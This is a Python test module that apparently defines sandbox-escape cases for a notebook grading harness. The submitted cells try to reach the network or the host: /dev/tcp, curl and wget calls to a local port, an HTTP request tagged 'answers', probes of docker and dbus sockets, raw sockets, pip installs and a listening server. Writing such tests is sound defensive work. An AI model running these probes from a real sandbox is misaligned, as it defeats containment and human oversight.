"""Reaching the network, or this machine over it. `PORT` stands for a server of the host that counts its callers."""

from __future__ import annotations

import os
import pathlib

from .cases import Case, Notebook, cells

PORT = "SHARDLAB_HOSTILE_PORT"


def calling(name: str, code: str, right: str = "") -> Case:
    """As `cells`, with the port of the server filled in when the notebook is written."""

    def hand_in(folder: pathlib.Path, released: Notebook) -> None:
        cells(name, code.replace("PORT", os.environ[PORT]), right).hand_in(folder, released)

    made = cells(name, code, right)
    return Case(name, hand_in, made.points)


CASES = (
    calling("loopback", "import socket; socket.create_connection(('127.0.0.1', PORT), timeout=3)"),
    calling("loopback-6", "import socket; socket.create_connection(('::1', PORT), timeout=3)"),
    calling("shell", "!(echo x > /dev/tcp/127.0.0.1/PORT); curl -m 3 http://127.0.0.1:PORT/; wget -T 3 http://127.0.0.1:PORT/"),
    calling("http", "import urllib.request; urllib.request.urlopen('http://127.0.0.1:PORT/?answers', timeout=3)"),
    calling("datagrams", "import socket; s = socket.socket(2, 2); [s.sendto(b'x', (a, PORT)) for a in ('127.0.0.1', '192.0.2.1')]"),
    calling("names", "import socket; socket.getaddrinfo('example.org', 80)"),
    calling("raw", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); socket.socket(socket.AF_PACKET, 3)"),
    calling("sockets-of-the-host", """
        import glob, socket
        for path in ["/run/docker.sock", "/var/run/dbus/system_bus_socket", "\\0dbus", *glob.glob("/run/**/*sock*", recursive=True)]:
            try: socket.socket(socket.AF_UNIX).connect(path); print("connected", path)
            except OSError: pass
        raise RuntimeError(open("/proc/net/unix").read())
        """),
    calling("installing", "%pip install -q nothing-of-this-name\n!pip download numpy\n!python -m pip install numpy", right="90.3"),
    calling("distributed", """
        jax.distributed.initialize("127.0.0.1:PORT", num_processes=2, process_id=1, initialization_timeout=3)
        """),
    calling("listening", """
        import socket, threading
        server = socket.create_server(("0.0.0.0", PORT))
        threading.Thread(target=server.accept, daemon=True).start()
        """, right="90.1 90.2 90.3 90.4"),
)  # fmt: skip
